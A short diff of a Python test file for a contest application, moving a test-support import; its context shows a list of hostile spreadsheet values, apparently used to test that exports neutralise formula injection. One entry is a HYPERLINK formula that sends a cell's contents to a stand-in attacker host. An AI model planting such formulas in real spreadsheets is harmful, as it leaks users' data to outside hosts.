@@ -15,8 +15,8 @@ from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 from contest.demo import DemoReport
 from contest.models import Entrant, Entry, Unit
 from contest.spreadsheets import is_formula_like, text_cell
-from tests.results.support import WRITING, Row, bearer, make_results
-from tests.support import make_entries
+from tests.results.support import Row, bearer, make_results
+from tests.support import WRITING, make_entries
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
